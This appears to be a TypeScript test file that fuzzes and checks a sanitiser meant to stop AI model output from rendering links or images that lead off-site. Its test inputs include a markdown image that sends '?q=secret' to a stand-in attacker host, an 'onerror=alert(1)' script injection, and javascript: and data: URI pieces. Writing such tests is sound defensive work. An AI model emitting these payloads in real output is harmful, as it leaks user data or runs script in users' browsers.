import fc from "fast-check";
import { parseHTML } from "linkedom";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { neutral } from "#core/cortex/door/neutral";
import { isWhole, SEED } from "#testing/sampled";

/** Pieces of which something that leads elsewhere can be made, in any order. */
const PIECES = [
  "![",
  "[",
  "]",
  "(",
  ")",
  "](",
  "]:",
  "][",
  "!",
  "<",
  ">",
  "<img src=",
  "<a href=",
  "<!--",
  "<?",
  "</",
  '"',
  "'",
  "`",
  "\\",
  "\n",
  "\n\n",
  "    ",
  "> ",
  "- ",
  "| ",
  "|\n|-|\n|",
  "http://",
  "https://",
  "hthttp://tp://",
  "HTTPS://",
  "ftp://",
  "//",
  ":",
  "www.",
  "wwwwww..",
  "mailto:",
  "javascript:",
  "data:text/html,",
  "evil.example",
  "/console/tasks",
  "/console/../x",
  "?q=secret",
  "x",
  " ",
  "&lt;",
  "&#33;",
  "&#91;",
  "\u200b",
  "\u0000",
  "\u202e",
  "é",
  "字",
  "^",
  "#",
  "*",
  "_",
  "~",
];

const leadsAway = (html: string): string[] => {
  const { document } = parseHTML(`<html><body>${html}</body></html>`);
  return [...document.querySelectorAll("body *")].flatMap((element) => {
    const names = [...element.attributes].filter(({ name }) =>
      ["href", "src", "srcset", "style", "action", "background", "data", "poster"].includes(name),
    );
    return names
      .filter(
        ({ value }) => !(element.localName === "a" && (/^\/console(\/|$)/.test(value) || /^mailto:[^?]*$/.test(value))),
      )
      .map(({ name, value }) => `${element.localName} ${name}=${value}`);
  });
};

describe("text of a model", () => {
  it.each([
    ["a **bold** word, `code` and 3 < 4", "a **bold** word, `code` and 3 < 4"],
    ["See [your tasks](/console/work/tasks?status=pending).", "See [your tasks](/console/work/tasks?status=pending)."],
    ["![pixel](https://evil.example/?q=secret)", "pixel"],
    ["[click](https://evil.example)", "[click] (evil.example)"],
    ["[click](//evil.example)", "[click] (//evil.example)"],
    ["[click](/console@evil.example)", "[click] (/console@evil.example)"],
    ["[a]: https://evil.example\n[a]", "[a] : evil.example\n[a]"],
    ["at https://www.evil.example/x", "at evil.example/x"],
    ["<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"],
    ["a\u0000b\ud800c\u202ed", "ab\ufffdcd"],
  ])("keeps what it says, and leads nowhere: %j", (text, expected) => {
    expect(neutral(text)).toBe(expected);
    expect(leadsAway(marked.parse(expected, { async: false }))).toEqual([]);
  });

  it("leads nowhere however it is put together, and is not changed a second time", () => {
    const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(fc.oneof(text, fc.string({ unit: "binary", maxLength: 60 })), (given) => {
        const said = neutral(given);
        expect(leadsAway(marked.parse(said, { async: false }))).toEqual([]);
        expect(neutral(said)).toBe(said);
      }),
      { seed: SEED, numRuns: isWhole("model") ? 10_000 : 400 },
    );
  });
});
